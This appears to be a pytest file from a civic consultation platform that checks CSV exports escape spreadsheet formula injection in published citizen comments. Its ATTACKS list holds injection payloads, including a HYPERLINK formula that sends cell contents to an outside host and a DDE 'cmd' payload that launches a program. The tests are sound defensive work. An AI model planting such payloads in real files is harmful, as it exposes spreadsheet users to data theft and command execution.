"""Issue 11, finding 7: a published citizen comment starting with "=" went into the consultations'
comments.csv as it was, where a spreadsheet would run it as a formula; the tracker's export escaped it.
Every CSV export now goes through core.exports."""

import csv
import io
from typing import Any

import pytest

from civicspace.consultations.models import Consultation
from civicspace.consultations.results.open_data import comments_stream
from civicspace.core.exports import csv_lines, spreadsheet_cell

ATTACKS = ['=HYPERLINK("http://example.org/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1"]  # fmt: skip


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_like_text_is_written_as_text(text: str) -> None:
    assert spreadsheet_cell(text) == "'" + text
    [row] = list(csv.reader(io.StringIO("".join(csv_lines([[text, 3, None]])))))
    assert row == ["'" + text, "3", ""]


def test_ordinary_values_are_kept() -> None:
    assert [spreadsheet_cell(v) for v in ("a = b", "ក", 5, -5, None, ["x", "y"])] == [
        "a = b", "ក", 5, -5, None, "x; y",
    ]  # fmt: skip


def test_published_comments_csv_escapes_formulas(db: Any, world: Any) -> None:
    from civicspace.consultations import services
    from civicspace.consultations.intake import Answer, SubmissionData, submission_create
    from civicspace.consultations.models import ItemInput, Submission
    from civicspace.consultations.tests.fixtures import make_consultation

    consultation = make_consultation(slug="csv", authority=world.un_agency, organisers=[world.coalition])
    item = consultation.items.order_by("code").first()
    assert item is not None
    data = SubmissionData(answers=[Answer(item_code=item.code, comment=ATTACKS[0])], consent=True)
    submission, _created = submission_create(
        consultation=consultation, data=data, channel=Submission.Channel.WEB, client_hash="t"
    )
    comment = ItemInput.objects.get(submission=submission)
    services.comment_moderate(item_input=comment, publish=True, reason="ok", actor=world.users["admin"])
    Consultation.objects.filter(pk=consultation.pk).update(state=Consultation.State.RESULTS)
    consultation.refresh_from_db()
    text = "".join(comments_stream(consultation, "csv"))
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + ATTACKS[0] in cells and ATTACKS[0] not in cells
